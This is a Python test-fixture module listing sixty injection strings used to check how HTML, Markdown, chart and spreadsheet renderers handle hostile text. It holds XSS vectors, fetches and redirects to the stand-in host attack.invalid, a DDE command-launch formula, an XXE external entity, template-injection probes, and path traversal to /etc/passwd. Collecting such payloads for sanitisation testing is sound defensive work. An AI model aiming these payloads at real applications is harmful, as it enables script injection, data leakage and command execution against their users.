"""Sixty texts that attack whatever shows them: each would run, fetch, leave the page, or pass for something else.

A script that runs sets ``window.attacked`` or opens a dialog; whatever is fetched, is fetched from ``attack.invalid``.
"""

_FETCH = "http://attack.invalid"
# What a browser takes for HTML.
_HTML = (
    '<img src=x onerror="window.attacked=1">', "<script>window.attacked=2</script>", "</script><script>window.attacked=3</script>",
    '<svg onload="window.attacked=4">', '<iframe srcdoc="<script>parent.attacked=5</script>"></iframe>',
    f'<iframe src="{_FETCH}/frame"></iframe>', '"><img src=x onerror=alert(6)>', "'><svg/onload=alert(7)>",
    '<a href="javascript:window.attacked=8">Paris</a>', f'<a href="{_FETCH}/a" target=_top>Paris</a>',
    f'<meta http-equiv="refresh" content="0;url={_FETCH}/meta">', f'<link rel=stylesheet href="{_FETCH}/style.css">',
    f'<style>@import "{_FETCH}/import.css"; *{{background:url({_FETCH}/back.png)}}</style>',
    f'<form action="{_FETCH}/form"><button autofocus onfocus=alert(14)>Paris</button></form>',
    "<details open ontoggle=alert(15)>Paris</details>", "<input autofocus onfocus=alert(16)>", "<body onload=alert(17)>",
    f'<object data="{_FETCH}/object"></object><embed src="{_FETCH}/embed">', f'<video src="{_FETCH}/video" autoplay onerror=alert(19)>',
    f'<base href="{_FETCH}/">', "<math><mtext><table><mglyph><style><img src=x onerror=alert(21)>", "<!--><img src=x onerror=alert(22)>-->",
    "</title><script>alert(23)</script>", "</style><script>alert(24)</script>", "</textarea><script>alert(25)</script>",
    "<b>gras</b><br><sup>1</sup>", "&lt;script&gt;alert(27)&lt;/script&gt;", "&#60;img src=x onerror=alert(28)&#62;",
    "<img\x00 src=x\x0bonerror=alert(29)>", "<span style='position:fixed;inset:0'>Paris</span>")
# What Streamlit takes for Markdown, and plotly and matplotlib for their own.
_MARKDOWN = (
    f"![x]({_FETCH}/image.png)", f"![x][y]\n\n[y]: {_FETCH}/reference.png", "[Paris](javascript:window.attacked=33)",
    f"[Paris]({_FETCH}/link)", f"<{_FETCH}/angle>", f"{_FETCH}/bare et www.attack.invalid", "contact@attack.invalid",
    ":skull: :material/skull:", ":red[Paris] :blue-badge[Rabat]", "$x^2$ et $$\\int y$$", "`code` et ```code```",
    "# Titre\n\n- liste\n> citation", "| a | b |\n|---|---|\n| c | d |", "**gras** __gras__ ~~barré~~ -> <-",
    "%{customdata[0]} %{x}", "$\\href{" + _FETCH + "/tex}{Paris}$", "\\(\\unicode{x3C}script\\)", "_nolegend_")
# What a spreadsheet, an XML reader, a template, a shell or a file system takes for more than text.
_FILES = (
    f'=HYPERLINK("{_FETCH}/cell";"Paris")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "＝1+1", "]]><x>&y;",
    f'<!DOCTYPE a [<!ENTITY y SYSTEM "{_FETCH}/dtd">]>', "{{7*7}} ${7*7} {0.__class__} %s", "../../etc/passwd\x00.png",
    "Paris\u202egnp.exe\u2066", "\u2028\u2029;window.attacked=59;//", "_x0041_ \x1f\x7f\ufffe\uffff")

PAYLOADS = _HTML + _MARKDOWN + _FILES
